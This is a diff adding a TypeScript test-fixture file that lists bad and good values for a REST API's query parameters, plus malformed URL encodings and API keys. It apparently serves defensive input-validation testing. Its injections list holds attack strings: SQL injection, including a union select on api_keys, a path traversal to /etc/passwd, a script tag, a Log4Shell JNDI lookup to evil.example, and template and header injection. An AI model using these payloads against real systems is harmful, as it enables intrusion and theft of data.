@@ -1,0 +1,124 @@
+/** Values that a parameter of REST must refuse, and others that it must take, each sent as it stands in an address. */
+export interface Values {
+  readonly bad: readonly string[];
+  readonly good: readonly string[];
+}
+
+const digits = '1'.repeat(400);
+
+/** In place of any value: markup, SQL, paths, templates, control characters, other alphabets. */
+const injections = [
+  `' or 1=1 --`,
+  `1; drop table districts`,
+  `1) union select sha256 from api_keys --`,
+  `pg_sleep(10)`,
+  `<script>alert(1)</script>`,
+  `../../etc/passwd`,
+  '$\u007bjndi:ldap://evil.example/a}',
+  '{{7*7}}',
+  '__proto__',
+  'constructor',
+  '\u0007\u001b[31m',
+  'line\r\nset-cookie: a=b',
+  '\u202e\ufeff',
+  '💥'.repeat(50),
+  'x'.repeat(4_000),
+].map(encodeURIComponent);
+
+const numbers = [
+  'abc',
+  'NaN',
+  'Infinity',
+  '-Infinity',
+  '1e400',
+  '1e1',
+  '0x10',
+  '1,5',
+  '٣',
+  '1_0',
+  '%2B-1',
+  '--1',
+  '1.2.3',
+];
+
+export const VALUES = {
+  lat: {
+    bad: [
+      ...numbers,
+      ...injections,
+      digits,
+      '90.0000001',
+      '-90.1',
+      '181',
+      '.5',
+      '5.',
+      '1%202',
+      'true',
+      'null',
+      '[]',
+      '{}',
+    ],
+    good: ['90', '-90', '0', '-0', '42.5'],
+  },
+  long: {
+    bad: [...numbers, ...injections, digits, '180.1', '-180.0000001', '540', '.5', '5.', 'true', 'null', '[]', '{}'],
+    good: ['180', '-180', '0', '-0', '-98.25'],
+  },
+  date: {
+    bad: [
+      ...injections,
+      ...['2023-02-30', '2023-2-3', 'today', 'now', 'infinity', '-infinity', 'epoch', 'J2451187', '20240203'],
+      ...['02/03/2024', '0000-01-01', '10000-01-01', '2024-11-05T00:00', `2024-11-05'--`, '2024-13-01', '2024-00-10'],
+      ...['2023-02-29', '2024-11-05x', '٢٠٢٤-01-01', '-2024-01-01', '2024-W01', '2024-11'],
+    ],
+    good: ['2024-02-29', '2024-11-05', '1900-01-01', '9999-12-31'],
+  },
+  state: {
+    bad: [...injections, 'Vermont', 'V', 'VTX', '50', 'V-', 'ÑÑ', 'vt,nh'],
+    good: ['VT', 'vt', 'Zz'],
+  },
+  year: {
+    bad: [...injections, '1e9', '-1', '20245', '1.5', '0x7e8', '٢٠٢٤', '2024-11', '1000000000'],
+    good: ['2024', '2018'],
+  },
+  page: {
+    bad: [...injections, '0', '-1', '1.5', '1e9', '1000001', '9007199254740993', '1%20OR%201=1', 'Infinity', digits],
+    good: ['1', '999999', '1000000'],
+  },
+  collections: {
+    bad: [
+      ...injections,
+      'contact,secret',
+      ',',
+      'contact,,social',
+      Array(33).fill('contact').join(','),
+      'contact;social',
+    ],
+    good: ['contact', 'social,contact', 'CONTACT', 'contact%2Csocial'],
+  },
+  type: {
+    bad: [...injections, 'General,Bogus', ',', 'General,,Primary', Array(10_000).fill('a').join(',').slice(0, 6_000)],
+    good: ['General', 'general,PRIMARY', 'Recall', 'Special'],
+  },
+  office_level: { bad: [...injections, 'Federal,Bogus', ',', 'Federal,,Local'], good: ['Federal', 'state,LOCAL'] },
+  office_branch: { bad: [...injections, 'Legislative,Bogus', ','], good: ['Judicial', 'legislative,Executive'] },
+  district_type: { bad: [...injections, 'County,Bogus', ','], good: ['County', 'City-town,School%20District'] },
+} satisfies Record<string, Values>;
+
+/** Encodings that are none, to be put into any address. */
+export const ENCODINGS = ['%E0%A4%A', '%zz', '%ff', '%00', '%', '%c0%af', '%ED%A0%80', '%f4%90%80%80'];
+
+export const KEYS: readonly (readonly [string, string])[] = [
+  ['an empty key', ''],
+  ['a word', 'key'],
+  ['a prefix alone', 'bg_abcdefgh_'],
+  ['an unknown key', `bg_abcdefgh_${'A'.repeat(43)}`],
+  ['a key that is a character longer', `bg_abcdefgh_${'A'.repeat(44)}`],
+  ['a key that is a character shorter', `bg_abcdefgh_${'A'.repeat(42)}`],
+  ['ten thousand characters', 'k'.repeat(10_000)],
+  ['two keys', `bg_abcdefgh_${'A'.repeat(43)}, bg_abcdefgh_${'A'.repeat(43)}`],
+  ['SQL', `' or '1'='1`],
+  ['the name of a prototype', '__proto__'],
+  ['a bearer token', 'Bearer abc'],
+  ['white space', '   '],
+];
